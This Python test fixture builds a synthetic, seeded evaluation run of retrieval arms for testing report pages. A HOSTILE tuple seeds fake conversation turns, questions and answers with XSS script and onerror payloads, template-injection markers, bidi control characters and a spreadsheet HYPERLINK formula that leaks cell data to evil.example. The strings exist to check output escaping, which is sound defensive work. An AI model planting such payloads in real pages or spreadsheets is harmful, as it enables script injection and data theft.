"""A finished run made up for the tests of reports: seeded, of any size, with the texts that break pages."""

import hashlib
import json
import re
from collections.abc import Mapping, Sequence
from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import numpy as np
import polars as pl

from reports.results import EVIDENCE_METRICS, Arm, Results
from reports.sealing import Sealing

KINDS = ("multi_hop", "temporal", "single_hop")
JUDGES = ("lexical_f1", "lexical_match")
HOSTILE = (
    "<script>document.title='owned'</script>",
    "</script><img src=x onerror=\"document.title='owned'\">",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "NUL \x00 bell \x07 line\u2028paragraph\u2029 right-to-left \u202etxet\u202c & <b>bold</b>",
    "{{ 7 * 7 }} {% raw %} | pipe | `tick` *star* [link](http://evil.example)",
)
SKILL = {"oracle": 1.0, "hybrid": 0.75, "bm25": 0.7, "mem_pursuit": 0.55, "random": 0.05}
ARM_SCHEMA: Mapping[str, pl.DataType] = {
    "arm": pl.String(),
    "question_id": pl.String(),
    "conversation_id": pl.String(),
    "kind": pl.String(),
    "evidence_hash": pl.String(),
    "records": pl.Int64(),
    "tokens": pl.Int64(),
    "calls": pl.Int64(),
    "latency_ms": pl.Float64(),
    "stop_reason": pl.String(),
    **{name: pl.Float64() for name in EVIDENCE_METRICS},
    "replaced": pl.Float64(),
    "sufficiency": pl.String(),
    "answer": pl.String(),
    "answer_status": pl.String(),
}


def build_results(
    *,
    readers: Sequence[str] = ("hybrid", "bm25", "mem_pursuit", "oracle"),
    budgets: Sequence[int] = (2, 5),
    conversations: int = 3,
    sessions: int = 4,
    turns: int = 8,
    questions: int = 10,
    full_context: bool = True,
    seed: int = 7,
    samples: int = 500,
) -> Results:
    """`turns` a session, `questions` a conversation; every fifth has no gold, and a few cells are missing."""
    rng = np.random.default_rng(seed)
    arms = [_arm(reader, f"k{k}", str(k)) for k in budgets for reader in readers]
    if full_context:
        arms.append(_arm("full_context", "all", "all"))
    records = _records(conversations, sessions, turns)
    asked = _questions(conversations, sessions, turns, questions, rng)
    cells, picks = _cells(arms, asked, records, rng)
    return Results(
        name="fixture",
        title="Fixture <b>run</b>",
        split="open",
        benchmark="locomo",
        offline=True,
        arms=arms,
        kinds=KINDS,
        judges=JUDGES,
        cells=pl.DataFrame(cells, schema=dict(ARM_SCHEMA), orient="row"),
        verdicts=_verdicts(cells, rng),
        questions=asked,
        records=records,
        selections=picks,
        facts={
            "conversations": conversations,
            "turns": len(records),
            "dropped ids": ["D8:99", "D"],
            "note": HOSTILE[0],
        },
        identity={"dataset": hashlib.sha256(b"dataset").hexdigest(), "answerer": "extractive@1 (offline)"},
        reuse={"states": 180, "cells": len(cells), "answers": 150, "verdicts": 300, "answers saved": 60},
        timings={"ingest": 0.21, "pool": 3.4, "compose": 1.25, "judge": 75.0},
        seed=seed,
        samples=samples,
    )


def two_arms(values: Mapping[str, Sequence[float | None]], *, conversations: Sequence[str]) -> Results:
    """A run of `k10` arms whose `complete_evidence` is given cell by cell, for numbers worked out by hand."""
    base = build_results(readers=tuple(values), budgets=(10,), conversations=1, questions=1, full_context=False)
    ids = [f"q{i}" for i in range(len(conversations))]
    asked = pl.DataFrame(
        {
            "question_id": ids,
            "conversation_id": list(conversations),
            "kind": ["temporal"] * len(ids),
            "text": ids,
            "asked_at": [None] * len(ids),
            "answer": ["gold"] * len(ids),
            "gold_turn_ids": [["t"]] * len(ids),
        },
        schema=base.questions.schema,
    )
    rows = [
        {
            "arm": f"{reader}@k10",
            "question_id": q,
            "conversation_id": c,
            "kind": "temporal",
            "complete_evidence": v,
        }
        for reader, column in values.items()
        for q, c, v in zip(ids, conversations, column, strict=True)
    ]
    return replace(
        base,
        kinds=("temporal",),
        judges=(),
        cells=pl.DataFrame(rows, schema=dict(ARM_SCHEMA)),
        questions=asked,
        verdicts=base.verdicts.clear(),
        selections=base.selections.clear(),
    )


STEP = pl.Struct({"view": pl.String, "cue": pl.String, "returned": pl.List(pl.String), "kept": pl.List(pl.String)})


def step(view: str, cue: str, returned: Sequence[str], kept: Sequence[str]) -> dict[str, Any]:
    """One step of a trace."""
    return {"view": view, "cue": cue, "returned": list(returned), "kept": list(kept)}


def traced(results: Results, first: int) -> Results:
    """The run with every selection split into a first set of `first` records and one read that gave the rest."""
    traces = [
        [step("init", "hybrid", ids[:first], ids[:first]), step("text", "x", ids[first:], ids[first:])]
        for ids in results.selections["record_ids"].to_list()
    ]
    selections = results.selections.with_columns(trace=pl.Series(traces, dtype=pl.List(STEP)))
    return replace(results, selections=selections)


def read_explorer(folder: Path) -> tuple[dict[str, Any], dict[int, dict[str, Any]]]:
    """What lies on disk: the data of questions.html, and question → what its script tells of it."""
    page = (folder / "questions.html").read_text(encoding="utf-8")
    found = re.search(r'<script type="application/json" id="data">(.*?)</script>', page, re.DOTALL)
    assert found
    data = json.loads(found[1])
    details = {}
    for number, path in enumerate(sorted((folder / data["folder"]).glob("*.js"))):
        said = re.fullmatch(r"details\((\d+),(.*)\);\n", path.read_text(encoding="utf-8"), re.DOTALL)
        assert said
        assert int(said[1]) == number
        script = json.loads(said[2])
        for q, own in script.pop("questions").items():
            assert data["questions"]["script"][int(q)] == number
            details[int(q)] = {**script, **own}
    return data, details


def _arm(reader: str, budget: str, k: str) -> Arm:
    return Arm(f"{reader}@{budget}", reader, budget, k, "turns", reader == "oracle")


def _records(conversations: int, sessions: int, turns: int) -> pl.DataFrame:
    rows = []
    for c in range(conversations):
        for s in range(sessions):
            said = datetime(2023, 5, 1, 13, 30) + timedelta(days=9 * s + c)
            for t in range(turns):
                own, speaker = f"conv-{c}/D{s + 1}:{t + 1}", "Ann" if t % 2 else "Bo"
                at = (f"conv-{c}", f"conv-{c}/session_{s + 1}", s * turns + t)
                text = f"In session {s + 1} I told you about plan number {t + 1}, and how the weekend went."
                text = HOSTILE[(s + t) % len(HOSTILE)] if t % 4 == 1 else text
                rows.append(("turns", own, *at, speaker, said, text, [own]))
    schema = {
        "store": pl.String(),
        "id": pl.String(),
        "conversation_id": pl.String(),
        "session_id": pl.String(),
        "position": pl.Int64(),
        "speaker": pl.String(),
        "said_at": pl.Datetime("us"),
        "text": pl.String(),
        "source_turn_ids": pl.List(pl.String()),
    }
    return pl.DataFrame(rows, schema=schema, orient="row")


def _questions(conversations: int, sessions: int, turns: int, questions: int, rng: np.random.Generator) -> pl.DataFrame:
    rows = []
    for c in range(conversations):
        for i in range(questions):
            gold = [f"conv-{c}/D{rng.integers(sessions) + 1}:{rng.integers(turns) + 1}" for _ in range(1 + i % 3)]
            gold = [] if i % 5 == 4 else list(dict.fromkeys(gold))
            text = HOSTILE[i % len(HOSTILE)] if i % 7 == 3 else f"What did Ann plan in week {i}?"
            answer = "7 May 2023" if i % 5 < 3 else None
            rows.append((f"conv-{c}/q{i}", f"conv-{c}", KINDS[i % 3], text, None, answer, gold))
    schema = {
        "question_id": pl.String(),
        "conversation_id": pl.String(),
        "kind": pl.String(),
        "text": pl.String(),
        "asked_at": pl.Datetime("us"),
        "answer": pl.String(),
        "gold_turn_ids": pl.List(pl.String()),
    }
    return pl.DataFrame(rows, schema=schema, orient="row")


def _cells(
    arms: Sequence[Arm], asked: pl.DataFrame, records: pl.DataFrame, rng: np.random.Generator
) -> tuple[list[tuple[object, ...]], pl.DataFrame]:
    by_conversation: dict[str, list[str]] = {}
    for conversation, own in records.select("conversation_id", "id").iter_rows():
        by_conversation.setdefault(conversation, []).append(own)
    cells: list[tuple[object, ...]] = []
    picks: list[tuple[str, str, list[str]]] = []
    for arm in arms:
        for i, (q, c, kind, gold) in enumerate(
            asked.select("question_id", "conversation_id", "kind", "gold_turn_ids").iter_rows()
        ):
            if arm.reader == "mem_pursuit" and i == 1:  # a cell that was expected and never came
                cells.append((arm.label, q, c, kind, *[None] * (len(ARM_SCHEMA) - 4)))
                continue
            picked = _pick(arm, gold, by_conversation[c], rng)
            picks.append((arm.label, q, picked))
            cells.append(_cell(arm, q, c, kind, gold, picked, rng))
    schema = {"arm": pl.String(), "question_id": pl.String(), "record_ids": pl.List(pl.String())}
    return cells, pl.DataFrame(picks, schema=schema, orient="row")


def _pick(arm: Arm, gold: Sequence[str], pool: Sequence[str], rng: np.random.Generator) -> list[str]:
    if arm.budget == "all":
        return list(pool)
    k = min(int(arm.k), len(pool))
    found = [g for g in gold if rng.random() < SKILL.get(arm.reader, 0.5)][:k]
    fill = [str(pool[i]) for i in rng.permutation(len(pool))[: k + len(gold)]]
    return ([*found, *[f for f in fill if f not in gold]])[:k]


def _cell(
    arm: Arm, q: str, c: str, kind: str, gold: Sequence[str], picked: Sequence[str], rng: np.random.Generator
) -> tuple[object, ...]:
    digest = hashlib.sha256("\n".join(sorted(picked)).encode()).hexdigest()
    scores: list[float | None] = [None] * 5
    if gold:
        hits = sum(g in picked for g in gold)
        wanted = {g.split(":")[0] for g in gold}
        sessions = len(wanted & {p.split(":")[0] for p in picked})
        scores = [
            float(hits > 0),
            hits / len(gold),
            float(hits == len(gold)),
            sessions / len(wanted),
            float(sessions == len(wanted)),
        ]
    scores += [None] * (len(EVIDENCE_METRICS) - len(scores))
    answer = HOSTILE[len(picked) % len(HOSTILE)] if rng.random() < 0.1 else f"{1 + len(q) % 9} May 2023"
    latency = float(rng.lognormal(0.5, 0.6))
    replaced = 0.0 if arm.reader == "hybrid" else float(rng.random())
    return (
        arm.label, q, c, kind, digest, len(picked), 19 * len(picked), 0, latency, "budget",
        *scores, None if arm.budget == "all" else replaced, _sufficiency(digest, gold, picked), answer, "ok",
    )  # fmt: skip


def _sufficiency(digest: str, gold: Sequence[str], picked: Sequence[str]) -> str | None:
    """What a panel that errs says; of the same evidence always the same, and of some of it nothing."""
    whole = all(turn in picked for turn in gold)
    labels = ("sufficient", "insufficient") if whole else ("insufficient", "sufficient")
    return (*[labels[0]] * 10, *[labels[1]] * 4, "uncertain", None)[int(digest[0], 16)]


def _verdicts(cells: Sequence[tuple[object, ...]], rng: np.random.Generator) -> pl.DataFrame:
    rows = []
    for cell in cells:
        for judge in JUDGES:
            score = float(rng.random()) if judge == "lexical_f1" else float(rng.random() < 0.4)
            lost = cell[4] is None or (judge == "lexical_match" and rng.random() < 0.05)
            rows.append((cell[0], cell[1], judge, "missing" if lost else "ok", None if lost else score))
    schema = {
        "arm": pl.String(),
        "question_id": pl.String(),
        "judge": pl.String(),
        "status": pl.String(),
        "score": pl.Float64(),
    }
    return pl.DataFrame(rows, schema=schema, orient="row")


def sealing(**changes: Any) -> Sealing:
    """What the ledger says of a second look, under a third freeze, with one declared comparison."""
    made = Sealing(
        rule="whole",
        freeze="f" * 64,
        frozen_at="2026-11-30T00:00:00+00:00",
        signer="",
        changes=None,
        vouched=("m",),
        freezes_before=2,
        unsealings_before=1,
        clock_behind=False,
        ledger_lines=5,
        ledger_head="e" * 64,
        declared=[("a@k2", "b@k2", "gold_hit")],
    )
    return replace(made, **changes)
